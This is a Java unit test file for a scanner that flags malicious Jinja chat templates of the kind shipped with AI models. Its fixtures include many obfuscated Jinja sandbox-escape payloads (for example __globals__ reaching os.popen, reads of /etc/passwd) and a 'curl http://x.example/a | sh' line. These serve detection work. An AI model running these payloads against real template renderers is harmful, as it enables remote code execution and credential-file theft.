package dev.countersign.inspect.jinja;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JinjaTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ ()['__class__'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ ''|attr('\\137\\137class\\u005f\\u005f') }}",
        "{{ ''['__cl' + 'ass__'] }}",
        "{{ ''['__cl' ~ 'ass__'] }}",
        "{{ ''['__cl' 'ass__'] }}",
        "{{ ''['__ssalc__'[::-1]] }}",
        "{{ ''['__ssalc__'|reverse] }}",
        "{{ ''|attr(['__', 'class', '__']|join) }}",
        "{{ ''|attr('_'*2 ~ 'class' ~ '_'*2) }}",
        "{{ ''|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
        "{{ ''|attr('%s%s' % ('__cla', 'ss__')) }}",
        "{{ ''['{}class{}'.format('__', '__')] }}",
        "{{ ''['__CLASS__'.lower()] }}",
        "{{ ''['XXclassXX'.replace('X', '_')] }}",
        "{{ ''|attr(dict(__cla=x, ss__=y)|join) }}",
        "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ''[a ~ b] }}",
        "{% set a = ['__', 'globals', '__'] %}{{ x[a|join('')] }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'] }}",
        "{{ self._TemplateReference__context.joiner }}",
        "{{ namespace.__init__ }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{% if ''.__class__ %}x{% endif %}",
        "{% set x = cycler.__init__ %}",
        "{% macro m(x=''.__class__) %}{% endmacro %}",
        "{% call(x) foo(''.__class__) %}{% endcall %}",
        "{% filter attr('__class__') %}x{% endfilter %}",
        "{% with x = ''.__class__ %}{% endwith %}",
        "{% do ''.__class__ %}",
        "{%- generation ''.__class__ -%}",
        "{{ messages|map(attribute='__class__')|list }}",
        "{{ messages|map('attr', '__class__')|list }}",
        "{{ '{0.__class__}'.format(x) }}",
        "{{ '%s'|attr('format') }}",
        "{{ x if ''.__class__ else y }}",
        "{{ {'a': ''.__class__} }}",
        "{{ [x, (''.__class__,)] }}",
        "{{ -''.__class__ }}",
        "{{ eval('1') }}",
        "{{ __import__('os').system('id') }}",
        "{{ getattr(x, y) }}",
        "{{ open('/etc/passwd').read() }}",
        "{{ request.application.__globals__ }}",
        "{{ g.pop.__globals__ }}",
        "{{ x.gi_frame.f_back.f_globals }}",
        "{{ \"}}\" ~ ''.__class__ }}",
        "{# fine #}{{ '' . __class__ }}",
        "{{\n''\n.\n__class__\n}}",
        "{{ ''.__class__",
        "{% raw %}{{ x }}{% endraw %}{{ ''.__class__ }}",
        "{{ ''|attr('__class__', ",
      })
  void whatReachesTheInterpreterIsMalicious(String template) {
    assertThat(Jinja.look(template))
        .extracting(gadget -> gadget.rule().verdict())
        .contains(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{ x|attr(y) }}",
        "{{ x[y ~ z] }}",
        "{{ x.__foo }}",
        "{% include 'other' %}",
        "{% extends '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{{ 'a' * 1000000000 }}",
        "{% for i in range(10**9, 99999999) %}x{% endfor %}",
        "<script src=//x.example></script>{{ messages }}",
        "{{ \"curl http://x.example/a | sh\" }}",
      })
  void whatHidesOrDoesNotBelongIntoAChatIsSuspicious(String template) {
    assertThat(Jinja.look(template))
        .extracting(gadget -> gadget.rule().verdict())
        .contains(Verdict.SUSPICIOUS)
        .doesNotContain(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{% for message in messages %}<|im_start|>{{ message['role'] }}\n"
            + "{{ message['content'] }}<|im_end|>\n"
            + "{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n"
            + "{% endif %}",
        "{{ bos_token }}{% for m in messages %}{% if (m['role'] == 'user') != (loop.index0 % 2 =="
            + " 0) %}{{ raise_exception('Roles must alternate') }}{% endif %}{% endfor %}",
        "{%- set ns = namespace(found=false, i=0) -%}{%- set ns.found = true -%}"
            + "{{ tools | selectattr('type', 'equalto', 'function') | list | tojson(indent=4) }}",
        "{% set date_string = strftime_now('%d %b %Y') %}{{ 'Today: ' + date_string + '\\n\\n' }}",
        "{{ message.content.split('</think>')[-1].lstrip('\\n') if '</think>' in message.content"
            + " else '' }}",
        "{% for k, v in tool.function.parameters.properties.items() %}{{ k ~ ': ' ~ v.type }}{%"
            + " endfor %}",
        "{{ messages[0]['content'] if messages[1:] is defined and messages[0].role is string else"
            + " none }}",
        "{% macro render(x, y=[]) %}{{ x|trim }}{{ caller() }}{% endmacro %}{{ render('a', y=['b'])"
            + " }}",
        "{{ '<__media__>' }}{{ message['name'] | upper }}{{ 10 * loop.index }}",
        "{% generation %}{{ message.content | string }}{% endgeneration %}{% break %}{% continue"
            + " %}",
        "{# ''.__class__ in a comment is not rendered #}{% raw %}{{ ''.__class__ }}{% endraw %}",
        "{% if message.class == 'important' %}IMPORTANT{% endif %}",
        "{{ unclosed_bracket",
        "",
      })
  void templatesOfChatsAreFine(String template) {
    assertThat(Jinja.look(template)).isEmpty();
  }

  @Test
  void aGadgetTellsItsPlace() {
    List<Gadget> gadgets = Jinja.look("{{ messages }}{{ ''.__class__ }}");
    assertThat(gadgets)
        .singleElement()
        .satisfies(gadget -> {
          assertThat(gadget.at()).isEqualTo(20);
          assertThat(gadget.what()).isEqualTo(".__class__");
        });
  }

  @Test
  void nestingWithoutEndIsReadInTime() {
    assertThat(Jinja.look("{{ " + "(".repeat(100_000))).isEmpty();
    assertThat(Jinja.look("{{ " + "-".repeat(100_000))).isEmpty();
    assertThat(Jinja.look("{{ " + "a[".repeat(100_000))).isEmpty();
    assertThat(Jinja.look("{{ x" + "|f(".repeat(100_000))).isEmpty();
    assertThat(Jinja.look("{{".repeat(100_000))).isEmpty();
    assertThat(Jinja.look("{% set a = a ~ a %}".repeat(20_000))).isEmpty();
  }

  @Test
  void anExpressionThatIsLongIsReadInTime() {
    assertThat(Jinja.look("{{ x" + " + 'a'".repeat(50_000) + " }}")).isEmpty();
    assertThat(Jinja.look("{{ x" + ".a".repeat(50_000) + " }}")).isEmpty();
  }
}
